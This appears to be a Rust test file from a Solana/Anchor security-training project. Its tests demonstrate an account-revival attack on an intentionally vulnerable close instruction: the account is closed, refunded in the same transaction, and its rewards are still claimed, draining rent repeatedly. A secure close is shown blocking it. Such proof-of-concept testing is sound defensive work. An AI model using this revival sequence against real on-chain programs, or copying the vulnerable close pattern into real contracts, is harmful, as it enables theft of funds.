@@ -0,0 +1,195 @@
+//! The same-transaction revival attack in the closing-accounts program.
+//!
+//! `close_vulnerable` moves every lamport out of a `UserAccount` but leaves
+//! its data and owner alone. A System transfer later in the same
+//! transaction tops it back up, so the runtime never collects it, and
+//! `claim_rewards` still finds the rewards it was holding: the rent is paid
+//! out AND the rewards are minted. After `close_secure` the account belongs
+//! to the System Program with no data, and the claim fails.
+//!
+//! What repeats is the close, not the rewards: every loop pays the rent out
+//! again and leaves the account alive, but `claim_rewards` zeroes
+//! `rewards_accrued` before the mint, so a second claim pays nothing.
+
+use anchor_lang::error::ErrorCode as AnchorError;
+use anchor_lang::{AccountDeserialize, InstructionData, Space, ToAccountMetas};
+use anchor_spl::token::{spl_token, TokenAccount};
+use closing_accounts::{accounts, instruction, ClosesByRecipient, Config, UserAccount, ID};
+use security_tests::{anchor_account, load, mint_account, pda, program_test, send, system_account, token_account};
+use solana_program_test::BanksClient;
+use solana_sdk::{
+    instruction::{Instruction, InstructionError},
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    rent::Rent,
+    signature::{Keypair, Signer},
+    system_instruction, system_program,
+    transaction::TransactionError,
+};
+
+const REWARDS: u64 = 1_000;
+
+/// An owner's UserAccount with `REWARDS` accrued, the reward mint behind
+/// it, the owner's empty token account, and an open close counter for
+/// the owner as recipient. `close_vulnerable` sends the rent to
+/// `collector`, which starts out empty.
+struct Fixture {
+    banks: BanksClient,
+    owner: Keypair,
+    collector: Pubkey,
+    user_account: Pubkey,
+    reward_mint: Pubkey,
+    owner_tokens: Pubkey,
+}
+
+async fn rewards_accrued() -> Fixture {
+    let owner = Keypair::new();
+    let reward_mint = Pubkey::new_unique();
+    let owner_tokens = Pubkey::new_unique();
+    let (user_account, bump) = Pubkey::find_program_address(&[b"user", owner.pubkey().as_ref()], &ID);
+    let state = UserAccount { owner: owner.pubkey(), balance: 0, rewards_accrued: REWARDS, bump };
+
+    let (reward_authority, reward_authority_bump) = Pubkey::find_program_address(&[b"reward_authority"], &ID);
+    let (config, config_bump) = Pubkey::find_program_address(&[b"config"], &ID);
+    let config_state = Config {
+        admin: Pubkey::new_unique(),
+        fee_bps: 0,
+        reward_mint,
+        reward_authority_bump,
+        profile_cooldown_secs: 0,
+        reopen_window_secs: 0,
+        max_closes_per_window: 1,
+        close_window_secs: 0,
+        bump: config_bump,
+    };
+    let (closes, closes_bump) = Pubkey::find_program_address(&[b"closes", owner.pubkey().as_ref()], &ID);
+    let closes_state = ClosesByRecipient { recipient: owner.pubkey(), count: 0, window_start: 0, bump: closes_bump };
+
+    let mut test = program_test();
+    test.add_account(owner.pubkey(), system_account(LAMPORTS_PER_SOL));
+    test.add_account(user_account, anchor_account(&state, ID));
+    test.add_account(config, anchor_account(&config_state, ID));
+    test.add_account(closes, anchor_account(&closes_state, ID));
+    test.add_account(reward_mint, mint_account(reward_authority, 6));
+    test.add_account(owner_tokens, token_account(reward_mint, owner.pubkey(), 0));
+    let (banks, _payer, _) = test.start().await;
+    Fixture { banks, owner, collector: Pubkey::new_unique(), user_account, reward_mint, owner_tokens }
+}
+
+impl Fixture {
+    fn close_vulnerable(&self) -> Instruction {
+        let owner = self.owner.pubkey();
+        Instruction::new_with_bytes(
+            ID,
+            &instruction::CloseVulnerable {}.data(),
+            accounts::CloseVulnerable { user_account: self.user_account, recipient: self.collector, signer: owner }
+                .to_account_metas(None),
+        )
+    }
+
+    fn close_secure(&self) -> Instruction {
+        let owner = self.owner.pubkey();
+        Instruction::new_with_bytes(
+            ID,
+            &instruction::CloseSecure {}.data(),
+            accounts::CloseSecure {
+                user_account: self.user_account,
+                user_closes: pda(&[b"user_closes", self.user_account.as_ref()], &ID),
+                tombstone: pda(&[b"user_tombstone", self.user_account.as_ref(), &0u64.to_le_bytes()], &ID),
+                config: pda(&[b"config"], &ID),
+                closes: pda(&[b"closes", owner.as_ref()], &ID),
+                recipient: owner,
+                owner,
+                system_program: system_program::ID,
+            }
+            .to_account_metas(None),
+        )
+    }
+
+    /// Tops the closed account back up to rent exemption
+    fn refund(&self) -> Instruction {
+        system_instruction::transfer(&self.owner.pubkey(), &self.user_account, rent())
+    }
+
+    fn claim(&self) -> Instruction {
+        Instruction::new_with_bytes(
+            ID,
+            &instruction::ClaimRewards {}.data(),
+            accounts::ClaimRewards {
+                user_account: self.user_account,
+                config: pda(&[b"config"], &ID),
+                reward_mint: self.reward_mint,
+                reward_authority: pda(&[b"reward_authority"], &ID),
+                user_token_account: self.owner_tokens,
+                owner: self.owner.pubkey(),
+                token_program: spl_token::ID,
+            }
+            .to_account_metas(None),
+        )
+    }
+
+    /// Sends `instructions` as one transaction, signed by the owner
+    async fn send(&mut self, instructions: &[Instruction]) -> Result<(), TransactionError> {
+        send(&mut self.banks, instructions, &[&self.owner]).await
+    }
+
+    async fn claimed(&mut self) -> u64 {
+        load::<TokenAccount>(&mut self.banks, self.owner_tokens).await.amount
+    }
+
+    async fn collected(&mut self) -> u64 {
+        self.banks.get_balance(self.collector).await.unwrap()
+    }
+}
+
+/// What a `UserAccount` holds for rent, and so what each close pays out
+fn rent() -> u64 {
+    Rent::default().minimum_balance(8 + UserAccount::INIT_SPACE)
+}
+
+#[tokio::test]
+async fn a_refunded_account_pays_out_after_close_vulnerable() {
+    let mut fixture = rewards_accrued().await;
+    let instructions = [fixture.close_vulnerable(), fixture.refund(), fixture.claim()];
+
+    fixture.send(&instructions).await.expect("the closed account is still a UserAccount");
+
+    assert_eq!(fixture.collected().await, rent());
+    assert_eq!(fixture.claimed().await, REWARDS);
+    // Revived for good: still this program's, holding the zeroed claim
+    let account = fixture.banks.get_account(fixture.user_account).await.unwrap().expect("revived");
+    assert_eq!(account.owner, ID);
+    let state = UserAccount::try_deserialize(&mut account.data.as_slice()).unwrap();
+    assert_eq!((state.owner, state.rewards_accrued), (fixture.owner.pubkey(), 0));
+}
+
+#[tokio::test]
+async fn every_loop_pays_the_rent_out_again() {
+    let mut fixture = rewards_accrued().await;
+    let (close, refund, claim) = (fixture.close_vulnerable(), fixture.refund(), fixture.claim());
+
+    // Close, revive, claim - twice in one transaction. The rent is paid out
+    // each time; the rewards once, since the claim zeroes them
+    fixture
+        .send(&[close.clone(), refund.clone(), claim.clone(), close, refund, claim])
+        .await
+        .expect("each close leaves a UserAccount behind");
+
+    assert_eq!(fixture.collected().await, 2 * rent());
+    assert_eq!(fixture.claimed().await, REWARDS);
+    let account = fixture.banks.get_account(fixture.user_account).await.unwrap().expect("still alive");
+    assert_eq!(account.owner, ID);
+}
+
+#[tokio::test]
+async fn close_secure_leaves_nothing_to_claim() {
+    let mut fixture = rewards_accrued().await;
+    let instructions = [fixture.close_secure(), fixture.refund(), fixture.claim()];
+
+    let err = fixture.send(&instructions).await.expect_err("the account is gone");
+
+    // Handed to the System Program with no data: not a UserAccount any more
+    let not_ours = InstructionError::Custom(AnchorError::AccountOwnedByWrongProgram as u32);
+    assert_eq!(err, TransactionError::InstructionError(2, not_ours));
+    assert_eq!(fixture.claimed().await, 0);
+}